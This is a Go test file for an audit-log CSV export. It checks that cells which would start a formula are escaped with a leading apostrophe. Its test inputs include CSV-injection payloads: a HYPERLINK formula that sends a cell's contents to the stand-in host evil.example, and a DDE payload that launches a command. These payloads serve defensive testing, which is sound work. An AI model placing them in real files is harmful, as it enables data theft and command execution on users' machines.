package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"github.com/civitas-eu/civitas/internal/audit"
	"github.com/civitas-eu/civitas/internal/dbtest"
)

// TestAuditExportNeutralisesFormulas: names and targets a spreadsheet
// would run as formulas come out of the CSV export as text.
func TestAuditExportNeutralisesFormulas(t *testing.T) {
	tx := dbtest.Tx(t)
	ctx := context.Background()
	actors := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "alice"}
	for _, a := range actors {
		if _, err := audit.Append(ctx, tx, audit.Event{Action: "test.csv", Target: a, Actor: a, Subject: a}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := audit.Export(ctx, tx, &buf, audit.Filter{Action: "test.csv"}, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(actors)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(actors)+1)
	}
	for i, a := range actors {
		want := "'" + a
		if a == "alice" {
			want = a
		}
		row := rows[i+1]
		for _, col := range []int{3, 5, 6} { // target, actor, subject
			if row[col] != want {
				t.Errorf("%s of %q exported as %q, want %q", rows[0][col], a, row[col], want)
			}
		}
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{"": "", "a=b": "a=b", "=1": "'=1", "'=1": "''=1", "{}": "{}", "12": "12", "-": "'-"} {
		if got := audit.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
